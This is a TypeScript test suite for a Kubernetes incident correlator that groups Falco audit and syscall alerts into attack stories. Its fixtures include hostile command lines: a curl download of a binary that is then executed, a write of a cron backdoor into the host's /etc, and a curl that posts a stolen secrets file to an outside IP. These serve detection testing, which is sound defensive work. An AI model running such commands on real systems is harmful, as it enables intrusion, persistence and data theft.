/**
 * The four stories of issue 6 must each make exactly one incident, whatever
 * order the evidence arrives in (the apiserver batches audit events up to
 * 30 s late), and unrelated evidence must stay out.
 *
 * Audit events are Falco's recorded k8s_audit suite (read in place from the
 * anchors) and the project's golden cases; where a story needs a second
 * request by someone else, it is a copy of a recorded one with the user,
 * audit ID and times changed.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { Correlator } from '../../src/incidents/correlator.js';
import type { StoredAlert, WriteBatch } from '../../src/incidents/model.js';
import { anchorsAvailable, anchorsMissingReason } from '../helpers/anchors.js';
import {
  BatchLedger,
  RULES,
  at,
  context,
  idSource,
  readAnchorEvent,
  readGoldenEvents,
  stored,
  sys,
  syscallAlert,
  variant,
  type Place,
} from './helpers.js';

const skip = anchorsAvailable ? false : anchorsMissingReason;

function run(batches: readonly (readonly StoredAlert[])[], correlator = new Correlator({ newId: idSource() })): BatchLedger {
  const ledger = new BatchLedger();
  for (const b of batches) ledger.apply(correlator.ingest(b));
  return ledger;
}

function only<T>(items: readonly T[]): T {
  assert.equal(items.length, 1, `expected exactly one, got ${items.length}`);
  return items[0]!;
}

// ---- (a) exec by a user → shell → download → execute ----

describe('(a) kubectl exec → shell → download → execute', { skip }, () => {
  // minikube-user exec'd `bash` into default/nginx-deployment-7998647bdf-phvq7 (container nginx1).
  const execEvent = () => readAnchorEvent('exec_pod.json');
  const t0 = at('2018-10-26T13:38:34.867116Z');
  const place: Place = { ns: 'default', pod: 'nginx-deployment-7998647bdf-phvq7', podUid: '0f0c2a8e-d8f8-11e8-a2e6-080027728ac4', containerId: '6f2c9ab1c4d0', containerName: 'nginx1' };
  const session = `6f2c9ab1c4d0:24601:${t0 + 200_000_000n}`;

  function chain(auditId?: string): StoredAlert[] {
    const common = { session, ...(auditId ? { auditId } : {}) };
    return [
      sys(RULES.shell, t0 + 300_000_000n, place, { ...common, pid: 24601, name: 'bash', exepath: '/bin/bash', cmdline: 'bash' }),
      sys(RULES.remoteCopy, t0 + 21n * 1_000_000_000n, place, { ...common, pid: 24630, name: 'curl', exepath: '/usr/bin/curl', cmdline: 'curl -so /tmp/kworker http://203.0.113.9/k', pname: 'bash' }),
      sys(RULES.dropExec, t0 + 25n * 1_000_000_000n, place, { ...common, pid: 24644, name: 'kworker', exepath: '/tmp/kworker', cmdline: 'kworker', pname: 'bash' }),
    ];
  }

  function check(ledger: BatchLedger, chainIds: string[], execId: string): void {
    const inc = only(ledger.stories);
    assert.equal(inc.alertCount, 3);
    assert.deepEqual(inc.rules, [RULES.shell.rule, RULES.remoteCopy.rule, RULES.dropExec.rule]);
    assert.equal(inc.actor?.name, 'minikube-user');
    assert.equal(inc.actor?.kind, 'user');
    assert.deepEqual(inc.tactics, ['execution', 'persistence', 'command_and_control']);
    // Critical raised? No: the raise stops at Critical, and Drop and execute is already Critical.
    assert.equal(inc.severity, 'Critical');
    assert.equal(inc.target.namespace, 'default');
    assert.equal(inc.target.pod, 'nginx-deployment-7998647bdf-phvq7');
    assert.equal(
      inc.title,
      'minikube-user exec into default/nginx-deployment-7998647bdf-phvq7: Terminal shell in container → Launch Ingress Remote File Copy Tools in Container → Drop and execute new binary in container',
    );
    for (const id of [...chainIds, execId]) assert.equal(ledger.incidentOf(id), inc.id, id);
    assert.equal(ledger.evidence.get(execId)?.kind, 'context');
  }

  test('audit event first, no audit id in the environment: the command picks the request', () => {
    const exec = context(execEvent());
    const alerts = chain();
    const ledger = run([[exec], alerts]);
    check(ledger, alerts.map((a) => a.id), exec.id);
    const shell = ledger.link(alerts[0]!.id);
    assert.equal(shell.key, 'command');
    assert.equal(shell.confidence, 'probable');
    assert.equal(shell.linkedTo, exec.id);
    assert.equal(ledger.link(alerts[1]!.id).key, 'exec_session');
    assert.equal(ledger.link(alerts[1]!.id).confidence, 'exact');
    assert.equal(only(ledger.stories).actor?.confidence, 'probable');
    // Node alerts carry the user the incident is attributed to.
    assert.equal(ledger.evidence.get(alerts[2]!.id)?.user, 'minikube-user');
  });

  test('audit event first, KUBERNETES_EXEC_AUDIT_ID in the environment: exact', () => {
    const exec = context(execEvent());
    const alerts = chain(exec.correlation.auditId);
    const ledger = run([[exec], alerts]);
    check(ledger, alerts.map((a) => a.id), exec.id);
    assert.equal(ledger.link(alerts[0]!.id).key, 'audit_id');
    assert.equal(ledger.link(exec.id).confidence, 'exact');
    assert.equal(only(ledger.stories).actor?.confidence, 'exact');
  });

  test('audit event 30 s late (after the whole chain): joins retroactively and sets the actor', () => {
    const alerts = chain();
    const correlator = new Correlator({ newId: idSource() });
    const ledger = new BatchLedger();
    const first = correlator.ingest(alerts);
    ledger.apply(first);
    assert.equal(only(ledger.stories).actor, undefined);
    const exec = context(execEvent());
    const late = correlator.ingest([exec]);
    ledger.apply(late);
    check(ledger, alerts.map((a) => a.id), exec.id);
    assert.equal(late.merges, undefined);
    assert.equal(late.alerts.length, 1, 'only the context event is new');
    assert.equal(ledger.link(exec.id).key, 'command');
    assert.equal(ledger.link(exec.id).linkedTo, alerts[0]!.id);
  });

  test('audit event late with the audit id in the environment: exact, retroactively', () => {
    const exec = context(execEvent());
    const alerts = chain(exec.correlation.auditId);
    const ledger = run([alerts.slice(0, 2), [exec], alerts.slice(2)]);
    check(ledger, alerts.map((a) => a.id), exec.id);
    assert.equal(ledger.link(exec.id).key, 'audit_id');
  });

  test('both stages of the exec request (ResponseStarted, ResponseComplete) are one piece of evidence', () => {
    const started = context(execEvent());
    const complete = context(variant(execEvent(), { stage: 'ResponseComplete', stageTimestamp: '2018-10-26T13:40:01.000000Z' }));
    assert.equal(started.id, complete.id);
    const alerts = chain();
    const ledger = run([[started], alerts, [complete]]);
    check(ledger, alerts.map((a) => a.id), started.id);
    assert.equal([...ledger.evidence.values()].filter((e) => e.kind === 'context').length, 1);
  });

  test('a Falco alert without Tiercel keys (posted JSON) still joins by pod', () => {
    const exec = context(execEvent());
    const raw = syscallAlert(RULES.shell, t0 + 400_000_000n, place, { pid: 1, name: 'bash', exepath: '/bin/bash', cmdline: 'bash' });
    const falco = stored({ ...raw, correlation: {} });
    const ledger = run([[exec], [falco]]);
    const inc = only(ledger.stories);
    assert.equal(inc.actor?.name, 'minikube-user');
    // Without the session root's command line there is nothing to compare: the only request on the pod.
    assert.equal(ledger.link(falco.id).key, 'pod');
    assert.equal(ledger.link(falco.id).confidence, 'probable');
  });

  test('unrelated evidence stays out: another pod, the pod\'s own processes, outside the window', () => {
    const exec = context(execEvent());
    const alerts = chain();
    const otherPod = sys(RULES.shell, t0 + 5n * 1_000_000_000n, { ...place, pod: 'web-2', podUid: 'u-web-2', containerId: 'aaaaaaaaaaaa' }, { pid: 77, session: 'aaaaaaaaaaaa:77:1', name: 'bash', exepath: '/bin/bash', cmdline: 'bash' });
    // The container's own process tree (no exec session): no exec request started it.
    const ownProcess = sys(RULES.remoteCopy, t0 + 6n * 1_000_000_000n, place, { pid: 1, name: 'wget', exepath: '/usr/bin/wget', cmdline: 'wget http://x', pname: 'nginx' });
    const muchLater = sys(RULES.shell, t0 + 3n * 3600n * 1_000_000_000n, place, { pid: 999, session: '6f2c9ab1c4d0:999:5', name: 'bash', exepath: '/bin/bash', cmdline: 'bash' });
    const ledger = run([[exec], alerts, [otherPod], [muchLater]]);
    const story = ledger.incidentOf(alerts[0]!.id);
    assert.notEqual(ledger.incidentOf(otherPod.id), story);
    assert.notEqual(ledger.incidentOf(muchLater.id), story);
    const later = ledger.incidents.get(ledger.incidentOf(muchLater.id)!);
    assert.equal(later?.actor, undefined, 'an exec request 3 h earlier is not this session\'s');
    // The pod's own process joins by the pod (same pod for certain, same window), not as part of the exec.
    const l2 = run([[exec], alerts, [ownProcess]]);
    assert.equal(l2.link(ownProcess.id).key, 'pod_uid');
    assert.equal(l2.link(ownProcess.id).confidence, 'exact');
    const l3 = run([[exec], alerts, [{ ...ownProcess, id: 'own-no-uid', podUid: undefined, correlation: { ...ownProcess.correlation, podUid: '' } }]]);
    assert.equal(l3.link('own-no-uid').key, 'pod');
    assert.equal(l3.link('own-no-uid').confidence, 'probable');
  });
});

// ---- (b) privileged / hostPath pod created by X → host /etc written from it ----

describe('(b) privileged or hostPath pod created → the host\'s /etc written from it', { skip }, () => {
  for (const [file, pod, uid, created, why] of [
    ['create_nginx_pod_privileged.json', 'nginx-deployment-5cdcc99dbf-rgw6z', '8c845395-d85f-11e8-88b6-080027728ac4', '2018-10-25T14:09:12.572676Z', 'privileged'],
    ['create_nginx_pod_sensitive_mount.json', 'nginx-deployment-7d5b5dd9cf-t8ngb', '76e27404-d87c-11e8-88b6-080027728ac4', '2018-10-25T17:36:11.686139Z', 'hostPath /etc'],
  ] as const) {
    const place: Place = { ns: 'default', pod, podUid: uid, containerId: 'c0ffee000001', containerName: 'nginx' };
    const write = (dt: number, withUid = true) =>
      sys(RULES.writeEtc, at(created, dt), withUid ? place : { ...place, podUid: undefined }, { pid: 1, name: 'sh', exepath: '/bin/sh', cmdline: 'sh -c echo x >> /host/etc/cron.d/backdoor', pname: 'containerd-shim' });

    test(`${why}: creation first, then the write (pod uid: exact)`, () => {
      const ctx = context(readAnchorEvent(file));
      const w = write(90);
      const ledger = run([[ctx], [w]]);
      const inc = only(ledger.stories);
      assert.equal(inc.actor?.name, 'system:serviceaccount:kube-system:replicaset-controller');
      assert.equal(inc.actor?.kind, 'serviceaccount');
      assert.equal(inc.target.podUid, uid);
      assert.equal(ledger.link(w.id).key, 'pod_uid');
      assert.equal(ledger.link(w.id).confidence, 'exact');
      assert.ok(inc.title.startsWith(`system:serviceaccount:kube-system:replicaset-controller created pod default/${pod} (${why})`), inc.title);
      assert.equal(inc.severity, 'Error');
    });

    test(`${why}: the write first, the creation's audit event late`, () => {
      const ctx = context(readAnchorEvent(file));
      const w = write(5);
      const ledger = run([[w], [ctx]]);
      only(ledger.stories);
      assert.equal(ledger.incidentOf(ctx.id), ledger.incidentOf(w.id));
      assert.equal(ledger.link(ctx.id).key, 'pod_uid');
    });

    test(`${why}: without the pod uid on the node side, by pod name (probable)`, () => {
      const ctx = context(readAnchorEvent(file));
      const w = write(60, false);
      const ledger = run([[ctx], [w]]);
      only(ledger.stories);
      assert.equal(ledger.link(w.id).key, 'pod');
      assert.equal(ledger.link(w.id).confidence, 'probable');
    });
  }

  test('an unprivileged pod\'s creation gives no context event; a write in another pod does not join', () => {
    const ctx = context(readAnchorEvent('create_nginx_pod_privileged.json'));
    const elsewhere = sys(RULES.writeEtc, at('2018-10-25T14:10:00Z'), { ns: 'default', pod: 'other', podUid: 'u-other', containerId: 'c0ffee000009' }, { pid: 1, name: 'sh', exepath: '/bin/sh', cmdline: 'sh' });
    const ledger = run([[ctx], [elsewhere]]);
    only(ledger.stories);
    assert.equal(ledger.evidence.has(ctx.id), false, 'the context event waits: nothing joined it');
  });
});

// ---- (b') a pod created with host access, then someone execs into it ----

describe('(b\') a pod created with host access, then an exec into it', { skip }, () => {
  // The recorded privileged pod, then mallory's exec into it (a copy of the recorded exec, retargeted).
  const pod = 'nginx-deployment-5cdcc99dbf-rgw6z';
  const execInto = (name: string, dt: number) =>
    variant(readAnchorEvent('exec_pod.json'), {
      auditID: `6a1d0c55-2222-4c3a-9d7e-8f00aa00000${dt}`,
      user: { username: 'mallory', groups: ['system:authenticated'] },
      objectRef: { resource: 'pods', namespace: 'default', name, apiVersion: 'v1', subresource: 'exec' },
      requestURI: `/api/v1/namespaces/default/pods/${name}/exec?command=sh&container=nginx&stdin=true&stdout=true&tty=true`,
      requestReceivedTimestamp: new Date(Date.parse('2018-10-25T14:09:12.572676Z') + dt * 1000).toISOString(),
      stageTimestamp: new Date(Date.parse('2018-10-25T14:09:12.572676Z') + dt * 1000 + 40).toISOString(),
    });
  const creationAlert = (priority: 'Error' | 'Informational'): StoredAlert =>
    stored({
      time: at('2018-10-25T14:09:12.572676Z'),
      rule: priority === 'Error' ? 'Pod With Full Host Access' : 'K8s Object Created',
      priority,
      source: 'k8s_audit',
      tags: ['k8s'],
      message: `pod created (user=system:serviceaccount:kube-system:replicaset-controller pod=${pod})`,
      outputFields: { 'ka.user.name': 'system:serviceaccount:kube-system:replicaset-controller', 'ka.target.name': pod, 'ka.target.namespace': 'default' },
      hostname: 'analyzer',
      correlation: { auditId: '0c3b7d8a-0000-4c3a-9d7e-8f00aa000001', user: 'system:serviceaccount:kube-system:replicaset-controller', verb: 'create', resource: 'pods', namespace: 'default', name: pod },
    });

  test('the risky creation and the exec into the same pod are one incident (pod, probable)', () => {
    const created = creationAlert('Error');
    const exec = context(execInto(pod, 40));
    const ledger = run([[created], [exec]]);
    const inc = only(ledger.stories);
    assert.equal(ledger.incidentOf(exec.id), inc.id);
    assert.equal(ledger.link(exec.id).key, 'pod');
    assert.equal(ledger.link(exec.id).confidence, 'probable');
  });

  test('an exec into another pod, or after an informational creation, stays apart', () => {
    const created = creationAlert('Error');
    const other = context(execInto('other-pod', 40));
    assert.equal(run([[created], [other]]).stories.length, 1, 'the exec into another pod waits as context: no join');
    const routine = creationAlert('Informational');
    const exec = context(execInto(pod, 41));
    const ledger = run([[routine], [exec]]);
    assert.equal(ledger.evidence.has(exec.id), false, 'an ordinary pod creation does not pull in the exec');
  });
});

// ---- (c) cluster-admin granted to X → X execs into a pod ----

describe('(c) cluster-admin granted to X → X execs into a pod', { skip }, () => {
  // minikube-user bound cluster-admin to the user minikube at 14:26:34; minikube then execs.
  const grantEvent = () => readAnchorEvent('attach_cluster_admin_role.json');
  const execByMinikube = (user = 'minikube', auditID = '5d0b6f2e-1111-4c3a-9d7e-8f00aa000001') =>
    variant(readAnchorEvent('exec_pod.json'), {
      auditID,
      user: { username: user, groups: ['system:authenticated'] },
      requestReceivedTimestamp: '2018-10-26T14:29:10.100000Z',
      stageTimestamp: '2018-10-26T14:29:10.140000Z',
    });
  const place: Place = { ns: 'default', pod: 'nginx-deployment-7998647bdf-phvq7', containerId: '6f2c9ab1c4d0', containerName: 'nginx1' };
  const shell = () => sys(RULES.shell, at('2018-10-26T14:29:10.600000Z'), place, { pid: 31337, session: '6f2c9ab1c4d0:31337:1', name: 'bash', exepath: '/bin/bash', cmdline: 'bash' });

  /** The upstream rule "Attach to cluster-admin Role" fired on the same request. */
  function grantAlert(): StoredAlert {
    return stored({
      time: at('2018-10-26T14:26:34.242498Z'),
      rule: 'Attach to cluster-admin Role',
      priority: 'Warning',
      source: 'k8s_audit',
      tags: ['k8s'],
      message: 'Cluster Role Binding to cluster-admin role (user=minikube-user subject=...)',
      outputFields: {
        'ka.user.name': 'minikube-user',
        'ka.req.binding.subjects': ['{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"minikube"}'],
      },
      hostname: 'analyzer',
      correlation: { auditId: 'c97244c7-4aec-4714-946a-8204d00ecdca', user: 'minikube-user', verb: 'create', resource: 'clusterrolebindings', name: 'some-reader-binding' },
    });
  }

  test('grant, exec, shell in order: one incident attributed to minikube', () => {
    const grant = context(grantEvent());
    const exec = context(execByMinikube());
    const sh = shell();
    const ledger = run([[grant], [exec], [sh]]);
    const inc = only(ledger.stories);
    assert.equal(inc.actor?.name, 'minikube');
    for (const id of [grant.id, exec.id, sh.id]) assert.equal(ledger.incidentOf(id), inc.id);
    assert.equal(ledger.link(grant.id).key, 'user');
    assert.equal(ledger.link(grant.id).confidence, 'probable');
    assert.equal(ledger.link(grant.id).linkedTo, exec.id);
  });

  test('the grant as an alert (upstream rule): exec and shell join its incident', () => {
    const grant = grantAlert();
    const grantCtx = context(grantEvent());
    const exec = context(execByMinikube());
    const sh = shell();
    const ledger = run([[grant, grantCtx], [exec], [sh]]);
    const inc = only(ledger.stories);
    assert.equal(inc.alertCount, 2);
    assert.equal(inc.actor?.name, 'minikube');
    assert.deepEqual(inc.rules, ['Attach to cluster-admin Role', RULES.shell.rule]);
    assert.equal(ledger.link(grantCtx.id).key, 'audit_id');
  });

  test('shell first, grant alert, then the exec request late: the two incidents merge', () => {
    const grant = grantAlert();
    const exec = context(execByMinikube());
    const sh = shell();
    const correlator = new Correlator({ newId: idSource() });
    const ledger = new BatchLedger();
    ledger.apply(correlator.ingest([sh]));
    ledger.apply(correlator.ingest([grant]));
    assert.equal(ledger.stories.length, 2);
    const late: WriteBatch = correlator.ingest([exec]);
    ledger.apply(late);
    assert.equal(late.merges?.length, 1);
    const inc = only(ledger.stories);
    assert.equal(inc.alertCount, 2);
    assert.equal(inc.actor?.name, 'minikube');
    for (const id of [grant.id, exec.id, sh.id]) assert.equal(ledger.incidentOf(id), inc.id);
    assert.equal(inc.id, late.merges![0]!.into);
    // The shell alert delivered again (the store had refused its batch): to the surviving incident, counted once.
    const retry = correlator.ingest([sh]);
    assert.equal(retry.alerts[0]!.incidentId, inc.id);
    assert.equal(retry.incidents[0]!.alertCount, 2);
  });

  test('someone else execs after the grant: not the grant\'s story', () => {
    const grant = context(grantEvent());
    const exec = context(execByMinikube('bob', '5d0b6f2e-1111-4c3a-9d7e-8f00aa000002'));
    const sh = shell();
    const ledger = run([[grant], [exec], [sh]]);
    const inc = only(ledger.stories);
    assert.equal(inc.actor?.name, 'bob');
    assert.equal(ledger.evidence.has(grant.id), false);
  });
});

// ---- (d) secret read by a service account → its pod opens an outbound connection ----

describe('(d) secret read by a service account → its pod connects out', () => {
  // argocd's application controller lists secrets with its bound token (pod name and uid in user.extra).
  const readEvent = () => readGoldenEvents('secret_access').find((e) => (e['user'] as { username: string }).username.startsWith('system:serviceaccount:') && e['verb'] === 'list')!;
  const place: Place = { ns: 'argocd', pod: 'argocd-application-controller-0', podUid: '8594e2a9-6b16-4217-9939-1a4f4072922d', containerId: 'abcabcabc001', containerName: 'application-controller' };
  const connect = (dt: number, p: Place = place) =>
    sys(RULES.outbound, at('2025-06-12T20:01:02Z', dt), p, { pid: 1, name: 'curl', exepath: '/usr/bin/curl', cmdline: 'curl -d @/tmp/s https://203.0.113.7/', pname: 'sh' });

  test('read first, then the connection: one incident, service account by pod uid (exact)', () => {
    const read = context(readEvent());
    const c = connect(40);
    const ledger = run([[read], [c]]);
    const inc = only(ledger.stories);
    assert.equal(inc.actor?.name, 'system:serviceaccount:argocd:argocd-application-controller');
    assert.equal(inc.actor?.kind, 'serviceaccount');
    assert.equal(ledger.link(c.id).key, 'service_account');
    assert.equal(ledger.link(c.id).confidence, 'exact');
    assert.equal(inc.target.pod, 'argocd-application-controller-0');
  });

  test('the connection first, the read late; and without the pod uid, by pod name', () => {
    const read = context(readEvent());
    const c = connect(3);
    const ledger = run([[c], [read]]);
    only(ledger.stories);
    assert.equal(ledger.link(read.id).key, 'service_account');
    const c2 = connect(50, { ...place, podUid: undefined });
    const l2 = run([[context(readEvent())], [c2]]);
    only(l2.stories);
    assert.equal(l2.link(c2.id).confidence, 'probable');
  });

  test('another pod\'s connection does not join', () => {
    const read = context(readEvent());
    const c = connect(40, { ...place, pod: 'argocd-server-7d9c', podUid: 'u-server', containerId: 'abcabcabc002' });
    const ledger = run([[read], [c]]);
    only(ledger.stories);
    assert.equal(ledger.evidence.has(read.id), false);
  });
});
